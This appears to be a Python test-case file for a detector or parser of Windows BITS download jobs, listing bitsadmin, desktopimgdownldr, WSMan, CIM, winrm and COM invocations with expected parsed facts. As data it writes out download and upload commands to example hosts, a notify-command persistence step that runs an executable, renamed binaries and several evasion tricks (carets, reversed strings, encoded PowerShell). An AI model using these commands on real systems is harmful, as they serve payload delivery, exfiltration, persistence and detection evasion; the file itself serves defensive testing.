"""bitsadmin.exe and the other ways to a job: reference a2 and a3."""

from .case import BITSADMIN, CMD, HOST, PWSH, TO, URL, Case, encoded, ps


def admin(arguments, command, shows, direction="unknown", sources=(), destinations=(), host="",
          **others):
    others.setdefault("image", BITSADMIN)
    start = others.pop("start", "bitsadmin.exe ")
    return Case(start + arguments, shows, command="bitsadmin " + command, direction=direction,
                sources=list(sources), destinations=list(destinations), host=host, **others)


def get(arguments, shows, command="/transfer", **others):
    return admin(arguments, command, shows, "download", [URL], [TO], HOST, **others)


def transfers():
    yield get(f"/transfer j {URL} {TO}", "the least", facts={"job_name": "j"})
    yield get(f"/transfer j /download {URL} {TO}", "/download")
    yield get(f"/transfer j /download /priority foreground {URL} {TO}", "/priority",
              facts={"priority": "foreground"})
    yield get(f"/TRANSFER J /DOWNLOAD /PRIORITY HIGH {URL} {TO}", "capitals")
    yield get(f"/rawreturn /nowrap /transfer j {URL} {TO}", "options before")
    yield get(f'/transfer "two words" /dynamic {URL} "{TO}"', "quotes",
              facts={"job_name": "two words"})
    yield get(f"/transfer /Download /priority Foreground {URL} {TO}",
              "the word behind /transfer is the name", facts={"job_name": "/Download"})
    yield get(f"/transfer /Troll=Strong /download {URL} {TO}", "whatever it is",
              facts={"job_name": "/Troll=Strong"})
    yield get(f"/transfer j {TO} {URL}", "the ends swapped, as published notes have them")
    yield admin(f"/transfer j https://a.example.net/1 C:\\1 https://a.example.net/2 C:\\2",
                "/transfer", "two files", "download",
                ["https://a.example.net/1", "https://a.example.net/2"], ["C:\\1", "C:\\2"],
                "a.example.net")
    yield admin(r"/transfer u /upload /priority normal https://drop.example.com/d.zip C:\d.zip",
                "/transfer", "an upload: remote first all the same", "upload", [r"C:\d.zip"],
                ["https://drop.example.com/d.zip"], "drop.example.com")
    yield admin(r"/transfer s \\files.corp.example\s\i.iso D:\i.iso", "/transfer", "a share",
                "download", [r"\\files.corp.example\s\i.iso"], [r"D:\i.iso"],
                "files.corp.example")
    yield get(f"/transfer j {URL} {TO}", "no extension", start="bitsadmin ")
    yield get(f"/transfer j {URL} {TO}", "a path", start=r"C:\Windows\System32\bitsadmin.exe ")
    yield get(f"/transfer j {URL} {TO}", "renamed", start=r"C:\Users\Public\b.exe ",
              image=("b.exe", "bitsadmin.exe"))
    yield get(f"/transfer j /download {URL} {TO}", "renamed, and no version known",
              start=r"C:\Users\Public\b.exe ", image=("b.exe", ""))
    yield get(f'/"t"ransfer j {URL} {TO}', "quotes inside the switch")
    yield get(f"/tra\"\"nsfer j {URL} {TO}", "empty ones")
    yield get(f"-transfer j {URL} {TO}", "a dash")


def steps():
    yield admin("/create persist", "/create", "a job made", facts={"job_name": "persist"})
    yield admin("/create /upload u", "/create", "an upload made", "upload",
                facts={"job_name": "u"})
    yield admin("/create /download d", "/create", "a download made", "download")
    yield admin("/create /upload-reply r", "/create", "an upload with a reply", "upload-reply")
    yield get(f"/addfile persist {URL} {TO}", "a file added", "/addfile",
              facts={"job_name": "persist"})
    yield get(f"/addfilewithranges persist {URL} {TO} 0:1000", "a part of a file",
              "/addfilewithranges")
    yield admin(r"/addfileset persist C:\list.txt", "/addfileset", "files from a list")
    yield admin(r"/setnotifycmdline persist C:\ProgramData\p.exe NULL", "/setnotifycmdline",
                "a command given", facts={"notify_command": r"C:\ProgramData\p.exe"})
    yield admin(r'/SetNotifyCmdLine persist C:\Windows\System32\cmd.exe "cmd.exe /c C:\p.exe"',
                "/setnotifycmdline", "a command with parameters")
    yield admin("/setnotifyflags persist 3", "/setnotifyflags", "when to run it")
    yield admin("/setminretrydelay persist 60", "/setminretrydelay", "a short delay",
                facts={"retry_delay": "60"})
    yield admin("/setcustomheaders persist X-Id:7", "/setcustomheaders", "headers")
    yield admin("/setcredentials persist SERVER BASIC user secret", "/setcredentials",
                "a password on the line", facts={"has_credential": "1", "has_secret": "1"})
    yield admin("/setproxysettings persist OVERRIDE proxy.example:3128 NULL",
                "/setproxysettings", "a proxy", facts={"has_proxy": "1"})
    yield admin("/replaceremoteprefix persist http://old.example http://new.example",
                "/replaceremoteprefix", "another server", host="new.example")
    yield admin("/resume persist", "/resume", "resumed", facts={"job_name": "persist"})
    yield admin("/complete persist", "/complete", "completed", facts={"job_name": "persist"})


def wrapped():
    line = f"/transfer j /download {URL} {TO}"
    yield get(line, "through cmd.exe", start="cmd.exe /c bitsadmin ", image=CMD)
    yield get(line + '"', "in quotes", start='cmd /c "bitsadmin.exe ', image=CMD)
    yield get(line, "carets", start="cmd /c b^itsad^min ", image=CMD, obfuscation="caret")
    yield get(line, "a variable", start="cmd /c set b=bits&&call %b%admin ", image=CMD,
              obfuscation="cmd-variable")
    yield get(line, "through start", start="cmd /c start /b bitsadmin ", image=CMD)
    for script, shows, hidden in (
            (f"bitsadmin {line}", "from PowerShell", ""),
            (f"& bitsadmin.exe {line}", "called", ""),
            (f"&('bits'+'admin') {line}", "put together", "concatenation"),
            (f"$b='nimdastib'[-1..-9]-join'';&$b {line}", "backwards", "reverse"),
            (f"bits`admin /tr'ansfer' j /download {URL} {TO}", "ticks and quotes", "backtick"),
            (f"cmd /c bitsadmin {line}", "through cmd.exe", ""),
            (f"Start-Process bitsadmin -ArgumentList '{line}'", "Start-Process", ""),
            (f"saps bitsadmin.exe '/transfer','j','/download','{URL}','{TO}'", "a list", ""),
            (f"iex 'bitsadmin {line}'", "evaluated", "invoke-expression")):
        yield Case(ps(script), "bitsadmin " + shows, command="bitsadmin /transfer",
                   obfuscation=hidden)
    yield Case(f"powershell -enc {encoded('bitsadmin ' + line)}", "bitsadmin encoded",
               command="bitsadmin /transfer", obfuscation="encoded-command")


def others():
    image = ("desktopimgdownldr.exe", "desktopimgdownldr.exe")
    shot = "https://files.example.com/lock.png"
    lock = {"command": "desktopimgdownldr /lockscreenurl", "sources": [shot], "destinations": []}
    yield Case(f"desktopimgdownldr.exe /lockscreenurl:{shot} /eventName:x", "the lock screen",
               image=image, **lock)
    yield Case(f'cmd /c "set SYSTEMROOT=C:\\Windows\\Temp&&cmd /c desktopimgdownldr.exe '
               f'/lockscreenurl:{shot} /eventName:x"', "its folder moved", image=CMD, **lock)
    yield Case(f"C:\\t\\d.exe /lockscreenurl:{shot} /eventName:x", "renamed",
               image=("d.exe", image[1]), **lock)
    job = {"command": "BitsClientJob CreateJob"}
    values = f"@{{RemoteUrl='{URL}';LocalFile='{TO}';Type=0}}"
    yield Case(ps("Invoke-WSManAction -Action CreateJob -ResourceUri "
                  f"wmi/root/microsoft/bits/BitsClientJob -ValueSet {values}"), "WSMan", **job)
    yield Case(ps("Invoke-WSManAction \u2013Action CreateJob \u2013ResourceUri "
                  f"wmi/root/microsoft/bits/BitsClientJob \u2013ValueSet {values}"),
               "WSMan with the page's en dashes", **job)
    yield Case(ps("Invoke-CimMethod -Namespace root/microsoft/bits -ClassName BitsClientJob "
                  f"-MethodName CreateJob -Arguments {values}"), "CIM", **job)
    yield Case(f"winrm invoke CreateJob wmi/root/microsoft/bits/BitsClientJob "
               f'@{{RemoteUrl="{URL}";LocalFile="{TO}";Type="0"}}', "winrm",
               image=CMD, **job)
    yield Case(ps("Invoke-WSManAction -Action CreateJob -ResourceUri "
                  "wmi/root/microsoft/bits/BitsClientJob -ValueSet @{RemoteUrl='"
                  "https://drop.example.com/d.zip';LocalFile='C:\\d.zip';Type=1}"),
               "WSMan, an upload", direction="upload", sources=[r"C:\d.zip"],
               destinations=["https://drop.example.com/d.zip"], host="drop.example.com", **job)
    yield Case(ps("Add-Type -Path C:\\t\\BITSReference4_0.dll;$m=New-Object "
                  "BITSReference4_0.BackgroundCopyManager4_0;$m.CreateJob('j',0,[ref]$g,[ref]$j)"),
               "COM through an interop library", command="BITS through COM",
               direction="unknown", sources=[], destinations=[], host="")
    yield Case(ps("$t=[Type]::GetTypeFromCLSID('4991d34b-80a1-4291-83b6-3328366b9097');"
                  "$m=[Activator]::CreateInstance($t);[IBackgroundCopyManager]$m"),
               "COM by its class", command="BITS through COM", direction="unknown", sources=[],
               destinations=[], host="")


def cases():
    for group in (transfers, steps, wrapped, others):
        yield from group()
